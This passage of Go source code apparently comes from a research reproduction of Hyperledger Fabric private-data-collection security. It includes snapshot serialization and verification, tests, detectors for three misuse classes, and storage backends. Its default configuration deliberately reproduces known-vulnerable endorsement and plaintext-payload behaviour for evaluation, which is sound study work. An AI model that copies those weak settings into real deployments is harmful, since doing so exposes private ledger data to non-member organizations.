	SnapshotHash  string      `json:"snapshot_hash"`
}

// LastBlockHashBytes decodes the hex last-block hash; nil when empty
// (height-0 snapshot of an empty chain).
func (m *Manifest) LastBlockHashBytes() ([]byte, error) {
	if m.LastBlockHash == "" {
		return nil, nil
	}
	b, err := hex.DecodeString(m.LastBlockHash)
	if err != nil {
		return nil, fmt.Errorf("%w: manifest last_block_hash: %v", storage.ErrCorrupt, err)
	}
	return b, nil
}

// StateHashBytes decodes the hex state hash.
func (m *Manifest) StateHashBytes() ([]byte, error) {
	b, err := hex.DecodeString(m.StateHash)
	if err != nil {
		return nil, fmt.Errorf("%w: manifest state_hash: %v", storage.ErrCorrupt, err)
	}
	return b, nil
}

// hash computes the manifest's self-hash: SHA-256 over the JSON with
// SnapshotHash blanked.
func (m *Manifest) hash() (string, error) {
	c := *m
	c.SnapshotHash = ""
	b, err := json.Marshal(&c)
	if err != nil {
		return "", err
	}
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:]), nil
}

// --- record encoding ---

func appendUvarint(buf []byte, v uint64) []byte {
	return binary.AppendUvarint(buf, v)
}

func appendString(buf []byte, s string) []byte {
	buf = appendUvarint(buf, uint64(len(s)))
	return append(buf, s...)
}

func appendBytes(buf []byte, b []byte) []byte {
	buf = appendUvarint(buf, uint64(len(b)))
	return append(buf, b...)
}

// encodeRecord renders a record payload (kind byte + kind-specific
// fields, uvarint length-prefixed).
func encodeRecord(r Record) ([]byte, error) {
	buf := []byte{byte(r.Kind)}
	switch r.Kind {
	case KindState:
		buf = appendString(buf, r.Namespace)
		buf = appendString(buf, r.Key)
		buf = appendBytes(buf, r.Value)
		buf = appendUvarint(buf, r.Version)
	case KindTombstone:
		buf = appendString(buf, r.Namespace)
		buf = appendString(buf, r.Key)
		buf = appendUvarint(buf, r.Version)
	case KindPurge:
		buf = appendUvarint(buf, r.At)
		buf = appendString(buf, r.Namespace)
		buf = appendString(buf, r.Key)
	case KindMissing:
		buf = appendString(buf, r.TxID)
		buf = appendString(buf, r.Collection)
	default:
		return nil, fmt.Errorf("snapshot: encode unknown record kind %d", r.Kind)
	}
	return buf, nil
}

type recordReader struct {
	buf []byte
	pos int
}

func (rd *recordReader) uvarint() (uint64, error) {
	v, n := binary.Uvarint(rd.buf[rd.pos:])
	if n <= 0 {
		return 0, fmt.Errorf("%w: truncated varint", storage.ErrCorrupt)
	}
	rd.pos += n
	return v, nil
}

func (rd *recordReader) bytes() ([]byte, error) {
	n, err := rd.uvarint()
	if err != nil {
		return nil, err
	}
	if n > uint64(len(rd.buf)-rd.pos) {
		return nil, fmt.Errorf("%w: field length %d exceeds record", storage.ErrCorrupt, n)
	}
	out := rd.buf[rd.pos : rd.pos+int(n)]
	rd.pos += int(n)
	return out, nil
}

func (rd *recordReader) string() (string, error) {
	b, err := rd.bytes()
	return string(b), err
}

// decodeRecord parses one record payload.
func decodeRecord(payload []byte) (Record, error) {
	if len(payload) == 0 {
		return Record{}, fmt.Errorf("%w: empty record", storage.ErrCorrupt)
	}
	r := Record{Kind: RecordKind(payload[0])}
	rd := &recordReader{buf: payload, pos: 1}
	var err error
	switch r.Kind {
	case KindState:
		if r.Namespace, err = rd.string(); err != nil {
			return r, err
		}
		if r.Key, err = rd.string(); err != nil {
			return r, err
		}
		var v []byte
		if v, err = rd.bytes(); err != nil {
			return r, err
		}
		r.Value = append([]byte(nil), v...)
		if r.Version, err = rd.uvarint(); err != nil {
			return r, err
		}
	case KindTombstone:
		if r.Namespace, err = rd.string(); err != nil {
			return r, err
		}
		if r.Key, err = rd.string(); err != nil {
			return r, err
		}
		if r.Version, err = rd.uvarint(); err != nil {
			return r, err
		}
	case KindPurge:
		if r.At, err = rd.uvarint(); err != nil {
			return r, err
		}
		if r.Namespace, err = rd.string(); err != nil {
			return r, err
		}
		if r.Key, err = rd.string(); err != nil {
			return r, err
		}
	case KindMissing:
		if r.TxID, err = rd.string(); err != nil {
			return r, err
		}
		if r.Collection, err = rd.string(); err != nil {
			return r, err
		}
	default:
		return r, fmt.Errorf("%w: unknown record kind %d", storage.ErrCorrupt, r.Kind)
	}
	if rd.pos != len(payload) {
		return r, fmt.Errorf("%w: %d trailing bytes after record", storage.ErrCorrupt, len(payload)-rd.pos)
	}
	return r, nil
}

// --- writer ---

// Writer builds a snapshot artifact: records stream in via Add, chunks
// are sealed at the target size, and Finish writes the manifest. A
// Writer is single-goroutine.
type Writer struct {
	dir        string
	chunkBytes int
	buf        bytes.Buffer
	records    int // records in the open chunk
	chunks     []ChunkInfo
	counts     Counts
}

// NewWriter starts a snapshot in dir, creating it if needed. The
// directory must not already hold a manifest (no silent overwrite of a
// finished artifact).
func NewWriter(dir string) (*Writer, error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("snapshot: create %s: %w", dir, err)
	}
	if _, err := os.Stat(filepath.Join(dir, ManifestName)); err == nil {
		return nil, fmt.Errorf("snapshot: %s already holds a snapshot", dir)
	}
	return &Writer{dir: dir, chunkBytes: DefaultChunkBytes}, nil
}

// SetChunkBytes overrides the chunk payload target (tests use small
// values to force multi-chunk artifacts).
func (w *Writer) SetChunkBytes(n int) {
	if n > 0 {
		w.chunkBytes = n
	}
}

// Add appends one record, sealing the open chunk when it reaches the
// target size.
func (w *Writer) Add(r Record) error {
	payload, err := encodeRecord(r)
	if err != nil {
		return err
	}
	var frame [8]byte
	binary.LittleEndian.PutUint32(frame[:4], uint32(len(payload)))
	binary.LittleEndian.PutUint32(frame[4:], crc32.Checksum(payload, castagnoli))
	w.buf.Write(frame[:4])
	w.buf.Write(payload)
	w.buf.Write(frame[4:])
	w.records++
	switch r.Kind {
	case KindState:
		w.counts.State++
	case KindTombstone:
		w.counts.Tombstones++
	case KindPurge:
		w.counts.Purges++
	case KindMissing:
		w.counts.Missing++
	}
	if w.buf.Len() >= w.chunkBytes {
		return w.sealChunk()
	}
	return nil
}

// sealChunk writes the buffered records as the next chunk file.
func (w *Writer) sealChunk() error {
	if w.records == 0 {
		return nil
	}
	name := fmt.Sprintf("chunk-%06d.snap", len(w.chunks))
	content := make([]byte, 0, len(Magic)+w.buf.Len())
	content = append(content, Magic...)
	content = append(content, w.buf.Bytes()...)
	if err := os.WriteFile(filepath.Join(w.dir, name), content, 0o644); err != nil {
		return fmt.Errorf("snapshot: write %s: %w", name, err)
	}
	sum := sha256.Sum256(content)
	w.chunks = append(w.chunks, ChunkInfo{
		Name:    name,
		Records: w.records,
		Bytes:   int64(len(content)),
		SHA256:  hex.EncodeToString(sum[:]),
	})
	w.buf.Reset()
	w.records = 0
	return nil
}

// Finish seals the last chunk and writes the manifest. height is the
// block-height watermark the state reflects; lastBlockHash the hash of
// block height-1 (nil at height 0); stateHash the exporter's canonical
// statedb.StateHash at the cut.
func (w *Writer) Finish(height uint64, lastBlockHash, stateHash []byte) (*Manifest, error) {
	if err := w.sealChunk(); err != nil {
		return nil, err
	}
	m := &Manifest{
		Format:        FormatVersion,
		Height:        height,
		LastBlockHash: hex.EncodeToString(lastBlockHash),
		StateHash:     hex.EncodeToString(stateHash),
		Counts:        w.counts,
		Chunks:        w.chunks,
	}
	if m.Chunks == nil {
		m.Chunks = []ChunkInfo{}
	}
	h, err := m.hash()
	if err != nil {
		return nil, fmt.Errorf("snapshot: hash manifest: %w", err)
	}
	m.SnapshotHash = h
	b, err := json.MarshalIndent(m, "", "  ")
	if err != nil {
		return nil, fmt.Errorf("snapshot: marshal manifest: %w", err)
	}
	if err := os.WriteFile(filepath.Join(w.dir, ManifestName), append(b, '\n'), 0o644); err != nil {
		return nil, fmt.Errorf("snapshot: write manifest: %w", err)
	}
	return m, nil
}

// --- reader ---

// ReadManifest loads and authenticates the manifest of a snapshot
// directory: format version and self-hash are checked, chunk contents
// are not (Load does that).
func ReadManifest(dir string) (*Manifest, error) {
	b, err := os.ReadFile(filepath.Join(dir, ManifestName))
	if err != nil {
		return nil, fmt.Errorf("snapshot: read manifest: %w", err)
	}
	return ParseManifest(b)
}

// ParseManifest authenticates raw manifest bytes (used by the wire
// transfer, which carries the manifest as an opaque byte blob so the
// hash holds end to end).
func ParseManifest(b []byte) (*Manifest, error) {
	var m Manifest
	if err := json.Unmarshal(b, &m); err != nil {
		return nil, fmt.Errorf("%w: manifest: %v", storage.ErrCorrupt, err)
	}
	if m.Format != FormatVersion {
		return nil, fmt.Errorf("snapshot: unsupported format %d (want %d)", m.Format, FormatVersion)
	}
	want, err := m.hash()
	if err != nil {
		return nil, fmt.Errorf("snapshot: hash manifest: %w", err)
	}
	if m.SnapshotHash != want {
		return nil, fmt.Errorf("%w: manifest hash mismatch: recorded %s, computed %s",
			storage.ErrCorrupt, m.SnapshotHash, want)
	}
	return &m, nil
}

// decodeChunk verifies one chunk's content (magic, framing, CRCs,
// record count) against its manifest entry and appends its records.
func decodeChunk(content []byte, info ChunkInfo, out []Record) ([]Record, error) {
	fail := func(format string, args ...any) ([]Record, error) {
		return nil, fmt.Errorf("%w: chunk %s: %s", storage.ErrCorrupt, info.Name, fmt.Sprintf(format, args...))
	}
	if int64(len(content)) != info.Bytes {
		return fail("%d bytes, manifest says %d", len(content), info.Bytes)
	}
	sum := sha256.Sum256(content)
	if hex.EncodeToString(sum[:]) != info.SHA256 {
		return fail("sha256 mismatch")
	}
	if len(content) < len(Magic) || string(content[:len(Magic)]) != Magic {
		return fail("bad magic")
	}
	body := content[len(Magic):]
	n := 0
	for len(body) > 0 {
		if len(body) < 4 {
			return fail("truncated frame header")
		}
		plen := binary.LittleEndian.Uint32(body[:4])
		if plen > maxRecordBytes {
			return fail("record length %d exceeds limit", plen)
		}
		if uint64(len(body)) < uint64(plen)+8 {
			return fail("truncated record body")
		}
		payload := body[4 : 4+plen]
		crc := binary.LittleEndian.Uint32(body[4+plen : 8+plen])
		if crc32.Checksum(payload, castagnoli) != crc {
			return fail("record %d CRC mismatch", n)
		}
		rec, err := decodeRecord(payload)
		if err != nil {
			return fail("record %d: %v", n, err)
		}
		out = append(out, rec)
		body = body[8+plen:]
		n++
	}
	if n != info.Records {
		return fail("%d records, manifest says %d", n, info.Records)
	}
	return out, nil
}

// Load reads and fully verifies a snapshot directory: manifest
// self-hash, every chunk's size, SHA-256, magic, per-record CRC and the
// per-kind record counts. It returns the manifest and all records in
// artifact order, touching nothing outside dir — a failed Load leaves
// the directory as it found it, so a corrupt transfer can simply be
// re-fetched into the same place.
func Load(dir string) (*Manifest, []Record, error) {
	m, err := ReadManifest(dir)
	if err != nil {
		return nil, nil, err
	}
	total := 0
	for _, c := range m.Chunks {
		total += c.Records
	}
	records := make([]Record, 0, total)
	for _, c := range m.Chunks {
		content, err := os.ReadFile(filepath.Join(dir, c.Name))
		if err != nil {
			return nil, nil, fmt.Errorf("%w: chunk %s: %v", storage.ErrCorrupt, c.Name, err)
		}
		records, err = decodeChunk(content, c, records)
		if err != nil {
			return nil, nil, err
		}
	}
	var counts Counts
	for _, r := range records {
		switch r.Kind {
		case KindState:
			counts.State++
		case KindTombstone:
			counts.Tombstones++
		case KindPurge:
			counts.Purges++
		case KindMissing:
			counts.Missing++
		}
	}
	if counts != m.Counts {
		return nil, nil, fmt.Errorf("%w: record counts %+v, manifest says %+v",
			storage.ErrCorrupt, counts, m.Counts)
	}
	return m, records, nil
}
