package core

import (
	"strings"
	"testing"

	"repro/internal/chaincode"
	"repro/internal/ledger"
	"repro/internal/policy"
	"repro/internal/pvtdata"
	"repro/internal/rwset"
)

func TestSecurityPresets(t *testing.T) {
	if OriginalFabric() != (SecurityConfig{}) {
		t.Fatal("original config not zero")
	}
	d := DefendedFabric()
	if !d.CollectionPolicyForReads || !d.HashedPayloadEndorsement || !d.FilterNonMemberEndorsements {
		t.Fatal("defended config incomplete")
	}
	if f := Feature1Only(); !f.CollectionPolicyForReads || f.HashedPayloadEndorsement {
		t.Fatal("Feature1Only wrong")
	}
	if f := Feature2Only(); !f.HashedPayloadEndorsement || f.CollectionPolicyForReads {
		t.Fatal("Feature2Only wrong")
	}
}

func testDef(collEP string) *chaincode.Definition {
	return &chaincode.Definition{
		Name: "cc",
		Collections: []pvtdata.CollectionConfig{{
			Name:              "pdc1",
			MemberPolicy:      "OR(org1.member, org2.member)",
			MaxPeerCount:      3,
			EndorsementPolicy: collEP,
		}},
	}
}

func TestAnalyzeDefinitionFindsUseCases(t *testing.T) {
	// MAJORITY over org1..org3 admits non-member org3 (Use Case 1) and
	// the missing collection EP leaves the chaincode policy in charge
	// (Use Case 2).
	pol := policy.MustParse("OutOf(2, org1.peer, org2.peer, org3.peer)")
	findings := AnalyzeDefinition(testDef(""), pol)
	var sawUC1, sawUC2 bool
	for _, f := range findings {
		switch f.UseCase {
		case UseCase1:
			sawUC1 = true
			if !strings.Contains(f.Detail, "org3") {
				t.Errorf("UC1 detail lacks the outside org: %s", f.Detail)
			}
		case UseCase2:
			sawUC2 = true
			if !strings.Contains(f.Detail, "chaincode-level") {
				t.Errorf("UC2 detail unclear: %s", f.Detail)
			}
		}
	}
	if !sawUC1 || !sawUC2 {
		t.Fatalf("findings = %+v", findings)
	}

	// Member-only policy: no UC1 finding.
	memberPol := policy.MustParse("AND(org1.peer, org2.peer)")
	findings = AnalyzeDefinition(testDef("AND(org1.peer, org2.peer)"), memberPol)
	for _, f := range findings {
		if f.UseCase == UseCase1 {
			t.Fatalf("spurious UC1: %s", f.Detail)
		}
		// UC2 remains: reads still use the chaincode-level policy.
		if f.UseCase == UseCase2 && !strings.Contains(f.Detail, "read-only") {
			t.Errorf("UC2 detail should mention read-only routing: %s", f.Detail)
		}
	}
}

func TestUseCaseStrings(t *testing.T) {
	for uc, want := range map[UseCase]string{
		UseCase1:   "UseCase1:non-member-endorsement",
		UseCase2:   "UseCase2:shared-endorsement-policy",
		UseCase3:   "UseCase3:plaintext-payload",
		UseCase(9): "UseCase(9)",
	} {
		if uc.String() != want {
			t.Errorf("%d.String() = %q", int(uc), uc.String())
		}
	}
}

func buildTx(t *testing.T, payload []byte, private bool) *ledger.Transaction {
	t.Helper()
	b := rwset.NewBuilder()
	if private {
		b.AddPvtRead("pdc1", "k", rwset.KVRead{Key: "k", Version: 1})
	} else {
		b.AddRead("cc", "k", rwset.KVRead{Key: "k", Version: 1})
	}
	set, _ := b.Build("tx")
	prp := &ledger.ProposalResponsePayload{
		TxID:     "tx",
		Response: ledger.Response{Status: ledger.StatusOK, Payload: payload},
		Results:  set.Marshal(),
	}
	return &ledger.Transaction{TxID: "tx", ResponsePayload: prp.Bytes()}
}

func TestPayloadExposesPrivateData(t *testing.T) {
	// Private read with plaintext payload: exposed.
	tx := buildTx(t, []byte("secret"), true)
	exposed, err := PayloadExposesPrivateData(tx)
	if err != nil || !exposed {
		t.Fatalf("exposed = %v, %v", exposed, err)
	}
	// Private read, empty payload: not exposed.
	tx = buildTx(t, nil, true)
	if exposed, _ := PayloadExposesPrivateData(tx); exposed {
		t.Fatal("empty payload flagged")
	}
	// Public tx with payload: not a PDC exposure.
	tx = buildTx(t, []byte("public"), false)
	if exposed, _ := PayloadExposesPrivateData(tx); exposed {
		t.Fatal("public payload flagged")
	}
	// Broken payload errors.
	bad := &ledger.Transaction{TxID: "x", ResponsePayload: []byte("junk")}
	if _, err := PayloadExposesPrivateData(bad); err == nil {
		t.Fatal("junk accepted")
	}
}

func TestTouchesPrivateData(t *testing.T) {
	b := rwset.NewBuilder()
	b.AddRead("cc", "k", rwset.KVRead{Key: "k", Version: 1})
	set, _ := b.Build("tx")
	if TouchesPrivateData(set) {
		t.Fatal("public set flagged")
	}
	b.AddPvtWrite("pdc1", "k", rwset.KVWrite{Key: "k", Value: []byte("v")})
	set, _ = b.Build("tx")
	if !TouchesPrivateData(set) {
		t.Fatal("private set not flagged")
	}
}
