package core

import (
	"fmt"

	"repro/internal/chaincode"
	"repro/internal/ledger"
	"repro/internal/policy"
	"repro/internal/rwset"
)

// UseCase identifies one of the paper's three misuse classes (§III).
type UseCase int

// The three use-case classes of the paper.
const (
	// UseCase1 — PDC non-member peers endorse PDC transactions
	// (§III-B): the endorsement policy admits endorsers from
	// organizations outside the collection's membership.
	UseCase1 UseCase = iota + 1
	// UseCase2 — PDC transactions validated through the same
	// endorsement policy as public data transactions (§III-C): no
	// collection-level policy is defined, or read-only transactions
	// bypass it.
	UseCase2
	// UseCase3 — the "Payload" field returns information in the
	// transaction proposal response (§III-D): chaincode returns values
	// through Response.Payload, which stays plaintext in blocks.
	UseCase3
)

// String names the use case.
func (u UseCase) String() string {
	switch u {
	case UseCase1:
		return "UseCase1:non-member-endorsement"
	case UseCase2:
		return "UseCase2:shared-endorsement-policy"
	case UseCase3:
		return "UseCase3:plaintext-payload"
	default:
		return fmt.Sprintf("UseCase(%d)", int(u))
	}
}

// Finding reports a detected misuse with an explanation.
type Finding struct {
	UseCase UseCase
	Detail  string
}

// AnalyzeDefinition inspects a chaincode definition (with its resolved
// chaincode-level policy) for the misuse preconditions of Use Cases 1
// and 2. It mirrors the reasoning of §IV-A: implicitMeta chaincode-level
// policies admit non-member endorsers, and missing collection-level
// policies leave write-related PDC transactions validated by the
// chaincode-level policy (read-only ones always are, absent Feature 1).
func AnalyzeDefinition(def *chaincode.Definition, chaincodePolicy policy.Policy) []Finding {
	var findings []Finding
	for i := range def.Collections {
		coll := &def.Collections[i]
		memberOrgs := make(map[string]bool)
		for _, o := range coll.MemberOrgs() {
			memberOrgs[o] = true
		}
		var outside []string
		for _, p := range chaincodePolicy.Principals() {
			if !memberOrgs[p.Org] {
				outside = append(outside, p.Org)
			}
		}
		if len(outside) > 0 {
			findings = append(findings, Finding{
				UseCase: UseCase1,
				Detail: fmt.Sprintf("collection %q: chaincode-level policy %q accepts endorsers from non-member orgs %v",
					coll.Name, chaincodePolicy.String(), outside),
			})
		}
		if coll.EndorsementPolicy == "" {
			findings = append(findings, Finding{
				UseCase: UseCase2,
				Detail: fmt.Sprintf("collection %q: no collection-level endorsement policy; PDC transactions validate against the chaincode-level policy",
					coll.Name),
			})
		} else {
			findings = append(findings, Finding{
				UseCase: UseCase2,
				Detail: fmt.Sprintf("collection %q: collection-level policy defined, but read-only PDC transactions still validate against the chaincode-level policy (without Feature 1)",
					coll.Name),
			})
		}
	}
	return findings
}

// PayloadExposesPrivateData inspects a committed transaction for Use
// Case 3: a PDC transaction whose proposal-response payload is non-empty
// — meaning chaincode returned data in plaintext alongside hashed
// read/write sets.
func PayloadExposesPrivateData(tx *ledger.Transaction) (bool, error) {
	prp, err := tx.ResponsePayloadParsed()
	if err != nil {
		return false, fmt.Errorf("core: analyze tx %s: %w", tx.TxID, err)
	}
	if len(prp.Response.Payload) == 0 {
		return false, nil
	}
	set, err := prp.RWSet()
	if err != nil {
		return false, fmt.Errorf("core: analyze tx %s rwset: %w", tx.TxID, err)
	}
	return len(set.CollSets) > 0, nil
}

// TouchesPrivateData reports whether a transaction's read/write set
// includes any collection activity.
func TouchesPrivateData(set *rwset.TxRWSet) bool {
	return len(set.CollSets) > 0
}
