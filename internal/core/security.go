// Package core implements the paper's primary contribution: the security
// analysis of Fabric's private data collections. It provides
//
//   - the defense features of §IV-C as configuration that threads through
//     the endorser, validator and client (Feature 1: collection-level
//     policy check for PDC read transactions during validation; Feature 2:
//     the cryptographic hashed-payload endorsement of Fig. 4; plus the
//     supplemental non-member endorsement filter of §V-D);
//
//   - misuse detection for the three use-case classes of §III, as
//     predicates over chaincode definitions and transactions; and
//
//   - the attack/defense evaluation matrix machinery behind Table II.
package core

// SecurityConfig selects which of the paper's new Fabric features are
// active. The zero value is the original (vulnerable) Fabric behaviour.
type SecurityConfig struct {
	// CollectionPolicyForReads enables defense Feature 1 (§IV-C1):
	// during validation, PDC read-only transactions are checked against
	// the collection-level endorsement policy when one is defined,
	// instead of always using the chaincode-level policy.
	CollectionPolicyForReads bool

	// HashedPayloadEndorsement enables defense Feature 2 (§IV-C2,
	// Fig. 4): endorsers sign the proposal-response with a hashed
	// "payload" (PR_Hash) while still returning the original (PR_Ori)
	// to the client; the client verifies the signature and assembles
	// the transaction from PR_Hash, so private values never enter a
	// block.
	HashedPayloadEndorsement bool

	// FilterNonMemberEndorsements enables the supplemental feature of
	// §V-D: during validation, endorsements from peers whose
	// organization is not a member of a collection the transaction
	// touches are discarded before the endorsement policy is evaluated.
	FilterNonMemberEndorsements bool

	// ValidationWorkers bounds the worker pool of the parallel block
	// validation pipeline (docs/VALIDATION.md): the per-transaction
	// certificate/signature checks and state-independent endorsement-
	// policy evaluation fan out across this many goroutines, while the
	// key-level routing, MVCC check and commit stay sequential in block
	// order. 0 selects runtime.GOMAXPROCS(0); 1 forces the fully
	// sequential path. Validation outcomes are identical for every
	// value (see TestPipelineDeterminism).
	ValidationWorkers int

	// VerifyCacheSize caps the validator's LRU endorsement-verification
	// cache (identity.VerifyCache). 0 selects the default capacity;
	// negative disables caching.
	VerifyCacheSize int

	// ReconcileMaxAttempts bounds the anti-entropy reconciler's attempts
	// per missing (txID, collection) entry before it gives up
	// (internal/reconcile). 0 selects reconcile.DefaultMaxAttempts.
	ReconcileMaxAttempts int

	// ReconcileBaseBackoff is the reconciler's retry delay in ticks after
	// the first failed attempt; it doubles per failure up to
	// ReconcileMaxBackoff. 0 selects reconcile.DefaultBaseBackoff.
	ReconcileBaseBackoff int

	// ReconcileMaxBackoff caps the reconciler's exponential backoff, in
	// ticks. 0 selects reconcile.DefaultMaxBackoff.
	ReconcileMaxBackoff int

	// TransientTTLBlocks evicts transient-store entries that are older
	// than this many blocks at commit time, bounding how long private
	// sets of never-committed transactions linger. 0 disables the TTL.
	TransientTTLBlocks uint64

	// TransientMaxEntries bounds the number of transactions held in the
	// transient store; the oldest entries are evicted first. 0 means
	// unbounded.
	TransientMaxEntries int

	// DeliverBufferSize bounds each delivery-service subscriber's event
	// buffer (internal/deliver); a subscriber that falls further behind
	// than this is evicted rather than blocking the commit path. 0
	// selects deliver.DefaultBufferSize.
	DeliverBufferSize int

	// StorageBackend selects each peer's storage backend by registered
	// name ("memory", "durable", "null"; see internal/storage and
	// docs/STORAGE.md). Empty means no persistence layer at all — the
	// peer keeps its chain and world state purely in memory, the
	// original behaviour.
	StorageBackend string

	// StorageDir is the root directory for durable backends; each peer
	// stores under StorageDir/<peer name>. Required when StorageBackend
	// is "durable"; ignored by backends that keep nothing on disk.
	StorageDir string

	// StorageSegmentBytes caps the durable backend's active log segment
	// before it is sealed and compaction becomes possible. 0 selects the
	// backend default (4 MiB).
	StorageSegmentBytes int64

	// StorageNoFsync makes the durable backend skip fsync on appends:
	// process-crash durability only, for benchmarks isolating write-path
	// cost from disk sync cost. Never enable it for data that must
	// survive power loss.
	StorageNoFsync bool

	// DedupCacheSize caps the validator's sharded duplicate-TxID cache
	// (internal/dedup), which rejects replayed submissions before
	// endorsement-signature verification without taking the block
	// store's global lock. 0 selects dedup.DefaultCapacity; negative
	// disables the cache (every replay check goes to the block store).
	DedupCacheSize int

	// GatewayAdmissionRate is the per-gateway token-bucket refill rate in
	// transactions per second; submissions beyond it are shed with
	// gateway.ErrOverloaded before endorsement fan-out. 0 disables
	// admission control (every submission is admitted).
	GatewayAdmissionRate float64

	// GatewayAdmissionBurst is the token bucket's capacity — how many
	// submissions may arrive back-to-back before pacing kicks in. 0
	// selects max(1, round(GatewayAdmissionRate)). Ignored when
	// GatewayAdmissionRate is 0.
	GatewayAdmissionBurst int
}

// OriginalFabric is the unmodified framework configuration.
func OriginalFabric() SecurityConfig { return SecurityConfig{} }

// DefendedFabric enables every defense feature.
func DefendedFabric() SecurityConfig {
	return SecurityConfig{
		CollectionPolicyForReads:    true,
		HashedPayloadEndorsement:    true,
		FilterNonMemberEndorsements: true,
	}
}

// Feature1Only enables only the collection-level read policy check.
func Feature1Only() SecurityConfig {
	return SecurityConfig{CollectionPolicyForReads: true}
}

// Feature2Only enables only the cryptographic payload solution.
func Feature2Only() SecurityConfig {
	return SecurityConfig{HashedPayloadEndorsement: true}
}
