package storage

import (
	"fmt"

	"repro/internal/ledger"
)

func errOutOfOrder(got, want uint64) error {
	return fmt.Errorf("%w: append block %d, want %d", ErrCorrupt, got, want)
}

// NewNull returns the discarding backend: every append succeeds and is
// dropped, Load replays nothing. It measures the cost of the peer's
// persistence hooks (journaling, batch assembly) without any retention,
// and serves as the backend for peers whose durability is explicitly
// unwanted (e.g. short-lived attack-harness peers).
func NewNull() Backend { return nullBackend{} }

type nullBackend struct{}

func (nullBackend) Name() string       { return "null" }
func (nullBackend) Blocks() BlockStore { return nullBlocks{} }
func (nullBackend) State() StateStore  { return nullState{} }
func (nullBackend) Pvt() PvtStore      { return nullPvt{} }
func (nullBackend) Close() error       { return nil }

type nullBlocks struct{}

func (nullBlocks) Append(*ledger.Block) error        { return nil }
func (nullBlocks) Height() uint64                    { return 0 }
func (nullBlocks) ReadAll() ([]*ledger.Block, error) { return nil, nil }
func (nullBlocks) Close() error                      { return nil }

type nullState struct{}

func (nullState) Apply(StateBatch) error            { return nil }
func (nullState) Load(func(StateBatch) error) error { return nil }
func (nullState) Watermark() uint64                 { return 0 }
func (nullState) Compact() error                    { return nil }
func (nullState) Close() error                      { return nil }

type nullPvt struct{}

func (nullPvt) SchedulePurge(PurgeEntry) error             { return nil }
func (nullPvt) CompletePurge(uint64) error                 { return nil }
func (nullPvt) LoadPurges(func(PurgeEntry) error) error    { return nil }
func (nullPvt) RecordMissing(MissingEntry) error           { return nil }
func (nullPvt) ResolveMissing(MissingEntry) error          { return nil }
func (nullPvt) LoadMissing(func(MissingEntry) error) error { return nil }
func (nullPvt) Close() error                               { return nil }
