package storage

import (
	"fmt"
	"sort"
	"sync"

	"repro/internal/ledger"
)

// NewMemory returns the in-RAM backend: real stores with the same
// Apply/Load/Watermark semantics as the durable backend, holding
// everything in memory. It makes restart-shaped tests (close a peer,
// hand its backend to a new peer object, Restore) run without touching
// the filesystem, exercising the same recovery code path the durable
// backend uses.
//
// The state store keeps only the latest record per key (it is its own
// permanently-compacted form), so its footprint is O(state size), not
// O(write history).
func NewMemory() Backend {
	return &memBackend{
		blocks: &memBlockStore{},
		state: &memStateStore{
			latest: make(map[string]StateRecord),
		},
		pvt: &memPvtStore{
			purges:  make(map[PurgeEntry]bool),
			missing: make(map[MissingEntry]bool),
		},
	}
}

type memBackend struct {
	blocks *memBlockStore
	state  *memStateStore
	pvt    *memPvtStore
}

func (b *memBackend) Name() string       { return "memory" }
func (b *memBackend) Blocks() BlockStore { return b.blocks }
func (b *memBackend) State() StateStore  { return b.state }
func (b *memBackend) Pvt() PvtStore      { return b.pvt }
func (b *memBackend) Close() error       { return nil }

type memBlockStore struct {
	mu       sync.Mutex
	base     uint64
	baseHash []byte
	blocks   []*ledger.Block
}

var _ BaseBlockStore = (*memBlockStore)(nil)

func (s *memBlockStore) Append(b *ledger.Block) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	want := s.base + uint64(len(s.blocks))
	if b.Header.Number != want {
		return errOutOfOrder(b.Header.Number, want)
	}
	s.blocks = append(s.blocks, b)
	return nil
}

func (s *memBlockStore) InstallBase(height uint64, prevHash []byte) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if len(s.blocks) != 0 {
		return fmt.Errorf("storage: install base %d on non-empty block store", height)
	}
	if s.base != 0 && s.base != height {
		return fmt.Errorf("storage: block store already based at %d, cannot re-base to %d", s.base, height)
	}
	s.base = height
	s.baseHash = append([]byte(nil), prevHash...)
	return nil
}

func (s *memBlockStore) Base() (uint64, []byte) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.base, s.baseHash
}

func (s *memBlockStore) Height() uint64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.base + uint64(len(s.blocks))
}

func (s *memBlockStore) ReadAll() ([]*ledger.Block, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]*ledger.Block(nil), s.blocks...), nil
}

func (s *memBlockStore) Close() error { return nil }

type memStateStore struct {
	mu        sync.Mutex
	latest    map[string]StateRecord // ns\x00key -> latest record
	watermark uint64
}

func stateKey(ns, key string) string { return ns + "\x00" + key }

func (s *memStateStore) Apply(batch StateBatch) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, r := range batch.Records {
		s.latest[stateKey(r.Namespace, r.Key)] = r
	}
	if batch.Height > s.watermark {
		s.watermark = batch.Height
	}
	return nil
}

// Load replays the retained state as one batch at the watermark, in
// sorted (namespace, key) order so recovery is deterministic.
func (s *memStateStore) Load(fn func(batch StateBatch) error) error {
	s.mu.Lock()
	keys := make([]string, 0, len(s.latest))
	for k := range s.latest {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	batch := StateBatch{Height: s.watermark, Records: make([]StateRecord, 0, len(keys))}
	for _, k := range keys {
		batch.Records = append(batch.Records, s.latest[k])
	}
	s.mu.Unlock()
	if len(batch.Records) == 0 && batch.Height == 0 {
		return nil
	}
	return fn(batch)
}

func (s *memStateStore) Watermark() uint64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.watermark
}

func (s *memStateStore) Compact() error { return nil }
func (s *memStateStore) Close() error   { return nil }

type memPvtStore struct {
	mu      sync.Mutex
	purges  map[PurgeEntry]bool
	missing map[MissingEntry]bool
}

func (s *memPvtStore) SchedulePurge(e PurgeEntry) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.purges[e] = true
	return nil
}

func (s *memPvtStore) CompletePurge(upTo uint64) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	for e := range s.purges {
		if e.At <= upTo {
			delete(s.purges, e)
		}
	}
	return nil
}

func (s *memPvtStore) LoadPurges(fn func(e PurgeEntry) error) error {
	for _, e := range s.sortedPurges() {
		if err := fn(e); err != nil {
			return err
		}
	}
	return nil
}

